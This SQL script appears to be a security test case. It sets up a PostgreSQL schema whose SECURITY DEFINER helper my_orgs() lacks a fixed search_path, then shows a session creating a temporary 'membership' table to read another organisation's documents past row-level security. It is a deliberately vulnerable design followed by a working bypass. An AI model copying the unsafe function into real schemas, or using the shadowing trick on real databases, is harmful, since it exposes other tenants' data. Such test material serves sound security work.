-- hole: the policy's own helper can be lied to with a temporary table
-- object: public.document, public.my_orgs()
-- attack: plant, read
-- seen: told
-- trap: B4-20, BX-28
-- role: {app}
-- why: my_orgs() is SECURITY DEFINER without a fixed search_path and names "membership" without its schema, so the
--   caller's pg_temp.membership is read instead: the policy lets everything through that it lists.
CREATE ROLE {owner} NOLOGIN;
CREATE ROLE {app} LOGIN;
GRANT CREATE, USAGE ON SCHEMA public TO {owner};
SET ROLE {owner};
CREATE TABLE membership (
  org_id uuid NOT NULL,
  user_id uuid NOT NULL,
  PRIMARY KEY (org_id, user_id)
);
CREATE TABLE document (
  org_id uuid NOT NULL,
  id uuid NOT NULL DEFAULT gen_random_uuid(),
  title text NOT NULL,
  PRIMARY KEY (org_id, id)
);
CREATE FUNCTION my_orgs() RETURNS SETOF uuid LANGUAGE plpgsql STABLE SECURITY DEFINER
  AS $$
  BEGIN
    RETURN QUERY SELECT m.org_id FROM membership m
      WHERE m.user_id = nullif(current_setting('app.user_id', true), '')::uuid;
  END $$;
REVOKE EXECUTE ON FUNCTION my_orgs() FROM PUBLIC;
GRANT EXECUTE ON FUNCTION my_orgs() TO {app};
ALTER TABLE membership ENABLE ROW LEVEL SECURITY;
ALTER TABLE document ENABLE ROW LEVEL SECURITY;
ALTER TABLE document FORCE ROW LEVEL SECURITY;
CREATE POLICY own ON membership TO {app} USING (user_id = nullif(current_setting('app.user_id', true), '')::uuid)
  WITH CHECK (false);
CREATE POLICY own ON document USING (org_id IN (SELECT my_orgs()));
GRANT SELECT, INSERT, UPDATE, DELETE ON document TO {app};
GRANT SELECT ON membership TO {app};
RESET ROLE;
INSERT INTO membership VALUES
  ('aaaaaaaa-0000-4000-8000-00000000000a', '11111111-0000-4000-8000-000000000001'),
  ('bbbbbbbb-0000-4000-8000-00000000000b', '22222222-0000-4000-8000-000000000002');
INSERT INTO document (org_id, title) VALUES
  ('aaaaaaaa-0000-4000-8000-00000000000a', 'a'), ('bbbbbbbb-0000-4000-8000-00000000000b', 'b');

-- session 1 as {app}
SET app.user_id = '11111111-0000-4000-8000-000000000001';
SELECT title FROM document;
-- gives: a
-- session 2 as {app}
SET app.user_id = '11111111-0000-4000-8000-000000000001';
CREATE TEMP TABLE membership AS
  SELECT 'bbbbbbbb-0000-4000-8000-00000000000b'::uuid AS org_id,
         '11111111-0000-4000-8000-000000000001'::uuid AS user_id;
GRANT SELECT ON pg_temp.membership TO PUBLIC;
SELECT title FROM document;
-- gives: b
